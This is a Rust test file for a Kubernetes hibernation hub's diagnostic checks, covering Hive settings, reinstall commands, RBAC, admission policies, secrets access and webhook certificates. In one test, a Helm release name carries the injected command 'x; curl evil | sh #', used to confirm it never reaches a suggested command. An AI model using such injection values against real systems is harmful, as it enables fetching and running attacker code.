//! Checks over facts that no hub has to hold.

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;

use hub::error::HubError;
use jiff::Timestamp;
use k8s_openapi::ByteString;
use serde_json::{Value, json};
use shared::admission::policy::Deny;
use shared::annotation::keys;
use shared::kinds::KINDS;

use super::CheckResult;
use super::Status::{self, Failed, Ok as Fine, Warning};
use super::facts::{CONFINED, Facts, OUR_DEFINITIONS};
use super::installed::{CHECKS, POLICY_ONLY, TIME_ZONES, VERSION};
use super::secrets::secrets;
use super::systems::hive;

/// A hub with both Deployments, where nothing else is.
fn facts(controller: &Value, webhook: &Value) -> Facts {
    let deployment = |name: &str, replicas: &Value, args: &Value| {
        json!({
            "metadata": { "name": name, "labels": { "app.kubernetes.io/version": VERSION } },
            "spec": { "replicas": replicas, "template": { "spec": {
                "containers": [{ "args": args, "image": format!("{name}:v{VERSION}") }] } } },
        })
    };
    let named = |name: &str| json!({ "metadata": { "name": name } });
    Facts {
        kinds: KINDS,
        now: Timestamp::UNIX_EPOCH,
        namespace: keys::NAMESPACE.to_owned(),
        groups: Vec::new(),
        rules: [Ok(None), Ok(None)],
        definitions: [Ok(None), Ok(None), Ok(None)],
        deployments: Ok(vec![
            deployment(keys::CONTROLLER, controller, &json!([])),
            deployment(keys::WEBHOOK, &json!(2), webhook),
        ]),
        roles: Ok(vec![named("hibernate-controller-fdb")]),
        role_bindings: Ok(vec![named("hibernate-controller-secrets")]),
        policies: Ok(Some(Vec::new())),
        bindings: Ok(Vec::new()),
        service: Ok(None),
        endpoints: Ok(Vec::new()),
        secret: Ok(None),
        lease: Ok(None),
        talm: Ok(None),
        hive: Ok(None),
        has_user_clusters: false,
        unbound: Ok(Vec::new()),
        trial: Ok(Value::Null),
    }
}

#[test]
fn one_controller_hibernates_the_clusters_of_a_hub() {
    let (all, ours) = (json!([]), json!(["--served-platforms=aws,openstack"]));
    for (off, replicas, webhook, expected, overlay) in [
        (false, 2, &all, Failed, "kubectl scale deployment hibernate-controller -n hibernate-system --replicas=0"),
        (false, 2, &ours, Failed, "kubectl scale deployment hibernate-controller -n hibernate-system --replicas=0"),
        (true, 0, &all, Failed, "manifests/overlays/cut-over"),
        (true, 0, &ours, Failed, "manifests/overlays/cut-over"),
        (true, 2, &all, Failed, "manifests/overlays/cut-over"),
        (true, 2, &ours, Fine, ""),
        (false, 0, &ours, Warning, "manifests/overlays/webhook-only"),
        (false, 0, &all, Fine, ""),
    ] {
        let mut facts = facts(&json!(replicas), webhook);
        let disabled = if off { json!(["hibernation"]) } else { json!(["clusterpool"]) };
        facts.hive = Ok(Some(json!({ "spec": { "disabledControllers": disabled } })));
        let found = hive(&facts).unwrap().unwrap();
        assert_eq!(found.status, expected, "{off} {replicas} {webhook}");
        assert!(found.commands.iter().all(|command| command.contains(overlay)), "{found:?}");
    }
    assert_eq!(hive(&facts(&json!(2), &all)).unwrap(), None, "a hub without Hive");
}

#[test]
fn what_runs_is_installed_again_as_it_is_or_by_its_owner() {
    let with = |change: &dyn Fn(&mut Facts)| {
        let mut facts = facts(&json!(2), &json!([]));
        change(&mut facts);
        facts.install("a=b")
    };
    let of = |facts: &mut Facts, at: usize, path: &str, value: Value| {
        *facts.deployments.as_mut().unwrap()[at].pointer_mut(path).unwrap() = value;
    };
    let args = "/spec/template/spec/containers/0/args";
    let helm = |release: &str| {
        let notes = json!({ "meta.helm.sh/release-name": release, "meta.helm.sh/release-namespace": "ops" });
        with(&|facts| of(facts, 1, "/metadata", json!({ "name": keys::WEBHOOK, "annotations": notes })))
    };
    let labeled =
        json!({ "webhooks": [{ "name": "suspend.hibernate.sh", "namespaceSelector": { "matchLabels": {} } }] });
    for (found, expected) in [
        (with(&|_| {}), "kubectl apply -k manifests/"),
        (
            with(&|facts| of(facts, 1, args, json!(["--served-platforms=aws"]))),
            "kubectl apply -k manifests/overlays/cut-over",
        ),
        (with(&|facts| of(facts, 0, "/spec/replicas", json!(0))), "kubectl apply -k manifests/overlays/webhook-only"),
        (
            with(&|facts| facts.rules[0] = Ok(Some(labeled.clone()))),
            "kubectl apply -k manifests/overlays/labeled-databases",
        ),
        (
            with(&|facts| {
                of(facts, 0, args, json!(["--kkp"]));
                (facts.roles, facts.role_bindings) = (Ok(Vec::new()), Ok(Vec::new()));
            }),
            "kubectl apply -k manifests/overlays/kkp",
        ),
        (helm("sleep"), "helm upgrade sleep charts/hibernate --namespace ops --reset-then-reuse-values --set a=b"),
        (helm("x; curl evil | sh #"), "kubectl apply -k manifests/"),
        (
            with(&|facts| {
                of(facts, 1, args, json!(["--served-platforms=aws"]));
                facts.role_bindings = Ok(Vec::new());
            }),
            "kubectl apply -k manifests/overlays/cut-over-openshift",
        ),
        // Only the owner knows the rest.
        (with(&|facts| facts.namespace = "sleep".to_owned()), ""),
        (with(&|facts| of(facts, 1, "/spec/template/spec/containers/0/image", json!("r.example.com/x:v1"))), ""),
        (with(&|facts| of(facts, 0, args, json!(["--cgu"]))), ""),
        (with(&|facts| facts.role_bindings = Ok(Vec::new())), ""),
        (with(&|facts| facts.deployments = Ok(Vec::new())), ""),
    ] {
        assert_eq!(found, expected);
    }
}

#[test]
fn every_missing_right_is_one_finding_and_no_failure() {
    let forbidden = || HubError::Forbidden { object: "o".to_owned(), message: "User \"bob\" cannot get".to_owned() };
    let mut facts = facts(&json!(2), &json!([]));
    facts.rules = [Err(forbidden()), Err(forbidden())];
    facts.definitions = [Err(forbidden()), Err(forbidden()), Err(forbidden())];
    (facts.roles, facts.secret) = (Err(forbidden()), Err(forbidden()));
    facts.service = Err(forbidden());
    (facts.deployments, facts.lease, facts.trial) = (Err(forbidden()), Err(forbidden()), Err(forbidden()));
    let statuses: Vec<Status> = CHECKS
        .iter()
        .filter(|(name, _)| *name != TIME_ZONES)
        .filter_map(|(_, check)| match check(&facts) {
            Ok(result) => result.map(|result| result.status),
            Err(error) => Some(CheckResult::unread(error).status),
        })
        .collect();
    assert!(statuses.iter().all(|status| *status == Status::NotChecked), "{statuses:?}");
    assert_eq!(statuses.len(), 9, "a hub without KKP and TALM");
}

/// Objects of the base and of every component, as they are written.
fn written(folder: &Path) -> Vec<Value> {
    let mut found = Vec::new();
    for entry in fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            found.extend(written(&path));
        } else if path.extension().is_some_and(|end| end == "yaml") {
            let objects: Vec<Value> = serde_saphyr::from_multiple(&fs::read_to_string(&path).unwrap()).unwrap();
            found.extend(objects);
        }
    }
    found
}

#[test]
fn every_role_that_writes_has_its_policy_and_every_policy_of_an_account_its_row() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../manifests");
    let all = [written(&root.join("base")), written(&root.join("components"))].concat();
    let named = |kind: &'static str| {
        let of_kind = all.iter().filter(move |object| object["kind"] == kind);
        of_kind.map(|object| (object["metadata"]["name"].as_str().unwrap(), object))
    };
    let writes = |role: &Value| {
        let verbs = role["rules"].as_array().into_iter().flatten().flat_map(|rule| rule["verbs"].as_array().unwrap());
        verbs.into_iter().any(|verb| !["get", "list", "watch"].contains(&verb.as_str().unwrap()))
    };
    let bound: Vec<&str> =
        named("ClusterRoleBinding").filter_map(|(_, binding)| binding["roleRef"]["name"].as_str()).collect();
    let roles: BTreeSet<&str> = named("ClusterRole")
        .filter(|(name, role)| bound.contains(name) && writes(role))
        .map(|(name, _)| {
            let of_operators = CONFINED.iter().find(|(role, _, _)| role.ends_with('-') && name.starts_with(role));
            of_operators.map_or(name, |(role, _, _)| role)
        })
        .collect();
    assert_eq!(roles, CONFINED.iter().map(|(role, _, _)| *role).collect(), "roles that write");
    let of_account = |policy: &Value| policy["spec"]["matchConditions"].to_string().contains("system:serviceaccount:");
    let policies: BTreeSet<&str> = named("ValidatingAdmissionPolicy")
        .filter(|(name, policy)| *name != POLICY_ONLY && of_account(policy))
        .map(|(name, _)| name)
        .collect();
    assert_eq!(policies, CONFINED.iter().map(|(_, policy, _)| *policy).collect(), "policies of an account");
}

#[test]
fn the_right_to_read_secrets_is_everywhere_or_in_each_namespace() {
    let bound = || Ok(vec![json!({ "metadata": { "name": "hibernate-controller-secrets" } })]);
    let found = |groups: &[&str], everywhere: bool, unbound: &[&str], replicas: i64| {
        let mut facts = facts(&json!(replicas), &json!([]));
        facts.groups = groups.iter().map(|&group| group.to_owned()).collect();
        facts.role_bindings = if everywhere { bound() } else { Ok(Vec::new()) };
        facts.unbound = Ok(unbound.iter().map(|&name| name.to_owned()).collect());
        secrets(&facts).unwrap()
    };
    let (hive, openshift) = (&["hive.openshift.io"][..], &["hive.openshift.io", "security.openshift.io"][..]);
    for (groups, everywhere, unbound, replicas, expected, commands) in [
        (hive, true, &["a"][..], 2, None, 0),
        (&["security.openshift.io"], false, &[], 2, None, 0),
        (openshift, true, &[], 0, None, 0),
        (openshift, true, &["a", "b"], 2, Some(Warning), 3),
        (openshift, false, &[], 2, Some(Fine), 0),
        (hive, false, &["a", "b"], 2, Some(Failed), 2),
    ] {
        let result = found(groups, everywhere, unbound, replicas);
        let result = result.map(|result| (result.status, result.commands.len()));
        assert_eq!(result, expected.map(|status| (status, commands)), "{groups:?} {everywhere} {unbound:?}");
    }
    let detail = found(hive, false, &["a", "b"], 2).unwrap().detail;
    assert!(detail.ends_with(": a, b"), "{detail}");
}

/// What the check of this name says.
fn found(facts: &Facts, name: &str) -> CheckResult {
    let check = CHECKS.iter().find(|(known, _)| *known == name).unwrap().1;
    check(facts).unwrap().unwrap()
}

/// For the Service in the default namespace, by itself, valid from 2026-11-30T23:35:09Z for a hundred years.
const CERTIFICATE: &str = "\
-----BEGIN CERTIFICATE-----
MIIBazCCARGgAwIBAgIBATAKBggqhkjOPQQDAjAMMQowCAYDVQQDDAF4MCAXDTI2
MTEzMDIzMzUwOVoYDzIxMjYxMTA2MjMzNTA5WjAMMQowCAYDVQQDDAF4MFkwEwYH
KoZIzj0CAQYIKoZIzj0DAQcDQgAEU/HYNiTfJUGD5MClS4ksBtBHZRl8aP9ZnH4v
x3rtL1cBPg2vQ6UGjZqpvXCdzqk1ek+dEVu+2hjHGhc3+/yahaNiMGAwDAYDVR0T
AQH/BAIwADAxBgNVHREEKjAogiZoaWJlcm5hdGUtd2ViaG9vay5oaWJlcm5hdGUt
c3lzdGVtLnN2YzAdBgNVHQ4EFgQUM48C89g/QiJQRahoVosp+r/pNgcwCgYIKoZI
zj0EAwIDSAAwRQIhAIIhlkexydaXwY0OA4KKmo/Uh2PpLz6OWPV4kuiYbr1oAiBs
t1x14AoHQ2LdWEaAnqt4RIlOg8DU22trxp7k766dKA==
-----END CERTIFICATE-----
";

/// The clock of the replica that made it was ahead.
#[test]
fn a_certificate_that_is_not_valid_yet_needs_no_restart() {
    let pem = ByteString(CERTIFICATE.as_bytes().to_vec());
    let service = json!({ "name": keys::WEBHOOK, "namespace": keys::NAMESPACE });
    let entry = json!({ "name": "a.hibernate.sh", "clientConfig": { "service": service, "caBundle": pem } });
    let rules = || Ok(Some(json!({ "webhooks": [entry] })));
    let mut facts = facts(&json!(2), &json!([]));
    (facts.service, facts.rules) = (Ok(Some(json!({}))), [rules(), rules()]);
    facts.secret = Ok(Some(json!({ "data": { "tls.crt": pem, "ca.crt": pem } })));
    let early = found(&facts, "webhook-ca-bundle");
    assert!(early.detail.contains("is not valid before 2026-11-30T23:35:09Z"), "{early:?}");
    assert_eq!((early.status, early.commands.len()), (Failed, 0));
    facts.now = "2027-01-01T00:00:00Z".parse().unwrap();
    for name in ["webhook-ca-bundle", "webhook-certificate"] {
        assert_eq!(found(&facts, name).status, Fine, "{name}");
    }
}

#[test]
fn each_policy_without_which_nothing_happens_is_compared_with_ours() {
    let ours = [shared::rollout::admission::policy(KINDS), shared::schedule::admission::policy(KINDS)];
    let both = |changed: Option<&str>| -> (Vec<Value>, Vec<Value>) {
        let of = |name: &str, spec: Value| json!({ "metadata": { "name": name }, "spec": spec });
        let policy = |deny: &Deny| {
            let mut policy = of(deny.name, json!(deny.policy()));
            if changed == Some(deny.name) {
                policy["spec"]["failurePolicy"] = json!("Ignore");
            }
            policy
        };
        (ours.iter().map(policy).collect(), ours.iter().map(|deny| of(deny.name, json!(deny.binding()))).collect())
    };
    let said = |(policies, bindings): (Vec<Value>, Vec<Value>)| {
        let mut facts = facts(&json!(2), &json!([]));
        (facts.roles, facts.policies, facts.bindings) = (Ok(Vec::new()), Ok(Some(policies)), Ok(bindings));
        let result = found(&facts, "policies");
        (result.status, result.detail)
    };
    assert_eq!(said(both(None)), (Fine, "2 policies, each with its binding".to_owned()));
    for (deny, end) in ours.iter().zip(["until then no rollout starts", "until then no schedule acts"]) {
        let is_named = |(status, detail): (Status, String)| {
            assert!(status == Failed && detail.contains(deny.name) && detail.contains(end), "{detail}");
        };
        is_named(said(both(Some(deny.name))));
        let (mut policies, bindings) = both(None);
        policies.retain(|policy| policy["metadata"]["name"] != deny.name);
        is_named(said((policies, bindings)));
        let (policies, mut bindings) = both(None);
        bindings.retain(|binding| binding["metadata"]["name"] != deny.name);
        is_named(said((policies, bindings)));
    }
}

#[test]
fn each_definition_is_looked_for() {
    let labels = json!({ "app.kubernetes.io/version": VERSION });
    let definition = |name: &str| Ok(Some(json!({ "metadata": { "name": name, "labels": labels } })));
    let all = || OUR_DEFINITIONS.map(|(name, _)| definition(name));
    let mut hub = facts(&json!(2), &json!([]));
    hub.definitions = all();
    assert_eq!(found(&hub, "versions").status, Fine);
    for (index, (name, what)) in OUR_DEFINITIONS.into_iter().enumerate() {
        hub.definitions = all();
        hub.definitions[index] = Ok(None);
        let detail = found(&hub, "versions").detail;
        assert_eq!(detail, format!("CustomResourceDefinition {name} is missing: there are no {what}"));
    }
    assert!(found(&hub, TIME_ZONES).detail.starts_with("release 20"));
}

#[test]
fn a_hub_without_policies_has_no_right_that_only_a_policy_confines() {
    for (role, expected) in [
        ("hibernate-controller-fdb", Warning),
        ("hibernate-controller-openstack", Failed),
        ("hibernate-controller-cgu", Failed),
        ("hibernate-controller-workload-schedules", Failed),
        ("hibernate-controller-operators-notebooks.kubeflow.org", Failed),
        ("hibernate-controller-shoots", Failed),
        ("hibernate-controller-virtual-machines", Failed),
    ] {
        let mut facts = facts(&json!(2), &json!([]));
        facts.policies = Ok(None);
        facts.roles = Ok(vec![json!({ "metadata": { "name": role } })]);
        assert_eq!(found(&facts, "policies").status, expected, "{role}");
    }
}
